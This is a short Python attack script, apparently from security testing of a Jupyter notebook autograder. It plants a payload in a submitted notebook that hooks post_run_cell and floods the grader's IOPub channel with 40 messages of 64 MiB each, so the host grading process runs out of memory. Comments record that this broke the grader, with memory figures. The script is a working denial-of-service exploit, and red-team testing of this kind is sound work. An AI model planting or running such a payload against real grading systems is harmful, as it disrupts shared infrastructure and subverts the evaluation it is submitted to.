# a09 (root): a01 again with messages that each stay under any per-message cap (one 64 MiB buffer each), sent
# while the grader does not read the kernel: right after a test cell has run, the grader hands its hand-over to the
# observer and waits for the report (ResilientExecute._observe). A post_run_cell hook in the kernel starts a
# thread that then sends N messages (zero copy, one 64 MiB object). libzmq's I/O thread in the grading process
# (host, root) keeps receiving into its queue (RCVHWM 1000 messages) whether or not Python reads.
# RESULT (root, 05:40 UTC): BROKEN (same class as a01, and it survives a per-message cap). N=40 (2.5 GiB sent,
# kernel holding 64 MiB): the grading child peaked at 1444 MB RSS (baseline ~360 MB): ~17 messages of 64 MiB held
# at once on the host. Score 0/30. a09.out.txt.
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from monitor import ac, grade_watched

N = int(os.environ.get("N", "40"))
PAYLOAD = f"""
import threading as _t
def _flood():
    k = get_ipython().kernel
    big = bytes(64 << 20)
    for _ in range({N}):
        k.session.send(k.iopub_socket, "stream", {{"name": "stdout", "text": ""}}, buffers=[big])
def _hook(result=None):
    if "probe.training_memory" in get_ipython().user_ns["In"][-1]:
        _t.Timer(0.3, _flood).start()
get_ipython().events.register("post_run_cell", _hook)
"""
dest = ac.make_course("r5-a09", {"queued": ac.notebook(append={"training_memory": PAYLOAD})})
grade_watched(dest, interval=0.1)
ac.show(dest)
